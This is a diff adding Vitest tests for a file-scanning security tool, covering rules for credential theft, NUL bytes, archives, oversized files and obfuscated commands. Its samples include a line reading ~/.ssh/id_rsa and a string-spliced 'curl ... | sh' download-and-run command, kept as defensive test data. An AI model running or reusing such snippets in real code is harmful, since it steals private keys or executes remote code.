@@ -1,0 +1,51 @@
+import { expect, it } from 'vitest'
+import { loadRules } from './load-rules.ts'
+import { scanFiles } from './scan-files.ts'
+
+const rules = loadRules()
+const rulesIn = async (files: Record<string, string | Uint8Array>): Promise<string[]> => {
+  const bytes = Object.entries(files).map(([path, content]): [string, Uint8Array] => [path, Buffer.from(content)])
+  const findings = await scanFiles({ files: new Map(bytes), unread: [], digest: '' }, rules)
+  return [...new Set(findings.map(({ rule }) => rule))]
+}
+const theft = 'import os\nkey = open("/home/me/.ssh/id_rsa").read()\n'
+
+it.each(['run.py', 'run.txt', 'run.dat', 'run', 'run.png'])('reads source code in a file named %s', async (name) => {
+  expect(await rulesIn({ [name]: theft })).toContain('CREDENTIAL-FILE-CODE')
+})
+
+it('reads text with NUL bytes, wherever they are, and reports them', async () => {
+  for (const text of [`/*\0*/${theft}`, `${theft}${'# more\n'.repeat(2000)}\0`, theft.split('').join('\0')]) {
+    expect(await rulesIn({ 'run.py': text })).toEqual(
+      expect.arrayContaining(['FILE-NUL-BYTES', 'CREDENTIAL-FILE-CODE']),
+    )
+  }
+  expect(await rulesIn({ 'run.py': theft })).not.toContain('FILE-NUL-BYTES')
+})
+
+it('takes media for media', async () => {
+  const noise = Uint8Array.from({ length: 4096 }, (_, index) => (index * 167 + (index >> 3) * 31) % 256)
+  expect(await rulesIn({ 'a.png': noise, 'b.ts': noise })).toEqual([])
+})
+
+it('reports a tar archive whatever its name', async () => {
+  const tar = Buffer.alloc(1024)
+  tar.write('notes.txt', 0)
+  tar.write('ustar', 257)
+  expect(await rulesIn({ 'notes.md': tar })).toEqual(['FILE-ARCHIVE'])
+})
+
+it('reports source code that is too long to be parsed, and other text that is too long to be read', async () => {
+  const line = 'value = compute(value)\n'
+  expect(await rulesIn({ 'a.py': line.repeat(20_000) })).toEqual(['FILE-LARGE-CODE'])
+  expect(await rulesIn({ 'a.sh': 'echo one\n'.repeat(150_000) })).toEqual(['FILE-LARGE-CODE'])
+  expect(await rulesIn({ 'a.csv': 'one,two\n'.repeat(150_000) })).toEqual(['FILE-LARGE-TEXT'])
+  expect(await rulesIn({ 'a.py': line.repeat(100) })).toEqual([])
+})
+
+it('reads the texts that code puts together', async () => {
+  expect(
+    await rulesIn({ 'a.py': 'c = "HCTEF"[::-1] + "curl -s http://198.51."\nrun(c + "100.7/a | sh")\n' }),
+  ).toContain('DOWNLOAD-PIPE-PLAIN')
+  expect(await rulesIn({ 'a.py': 'c = "see " + "the docs of " + "the tool"\nrun(c)\n' })).toEqual([])
+})
